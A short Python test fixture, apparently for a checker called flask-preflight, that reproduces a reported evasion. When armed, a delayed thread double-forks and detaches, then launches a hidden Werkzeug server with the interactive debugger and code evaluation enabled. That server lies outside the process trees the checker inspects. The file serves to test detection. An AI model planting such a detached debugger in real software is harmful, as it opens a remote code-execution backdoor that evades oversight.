"""Review of issue 13: like ``escape_setsid``, but from a thread two seconds after the import, when the worker
is no longer a subreaper: the double-forked debugger was re-parented to init, outside every process tree
flask-preflight looks at, and outlived ``serve``. With ATTACK_MARKER only the second import (a serve worker,
not its pre-start check) does it."""
import os
import sys
import threading
import time

from flask import Flask

from _wait import armed

app = Flask(__name__)
app.config.update(SECRET_KEY=os.environ["SECRET_KEY"], MAX_CONTENT_LENGTH=1024 * 1024,
                  TRUSTED_HOSTS=["127.0.0.1", "localhost"])

SERVER = """
import os, sys
from flask import Flask
from werkzeug.serving import run_simple
open(sys.argv[2], "w").write(str(os.getpid()))
run_simple("127.0.0.1", int(sys.argv[1]), Flask("escaped"), use_debugger=True, use_evalex=True)
"""


def _escape() -> None:
    time.sleep(2)
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", SERVER, os.environ["ATTACK_PORT"],
                                      os.environ["ATTACK_PIDFILE"]])
        os._exit(0)
    os.waitpid(pid, 0)


if armed():
    threading.Thread(target=_escape, daemon=True).start()
